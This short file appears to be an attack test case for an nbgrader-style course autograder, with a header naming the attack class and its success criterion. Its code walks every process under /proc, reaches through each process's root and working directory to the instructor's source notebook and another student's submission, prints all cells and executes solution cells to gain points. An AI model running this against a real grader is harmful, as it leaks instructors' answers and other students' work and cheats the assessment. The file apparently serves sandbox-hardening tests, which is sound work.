# ---
# class: reading tests from disk, memory and processes
# tries: goes through `/proc/PID/root` and `/proc/PID/cwd` of every process to the course folder
# success: any point, or secrets told
# ---

# %% solution="total"
import glob
import json

for folder in glob.glob("/proc/[0-9]*"):
    for way in ("root", "cwd/../..", "root/.."):
        for path in ("@COURSE@/source/@ASSIGNMENT@/@ASSIGNMENT@.ipynb", "@COURSE@/submitted/@VICTIM@/@ASSIGNMENT@/@ASSIGNMENT@.ipynb"):
            try:
                cells = json.load(open(f"{folder}/{way}{path}"))["cells"]
            except (OSError, ValueError):
                continue
            for cell in cells:
                print("".join(cell["source"]))
                if cell["metadata"].get("nbgrader", {}).get("solution"):
                    exec("".join(cell["source"]), globals())
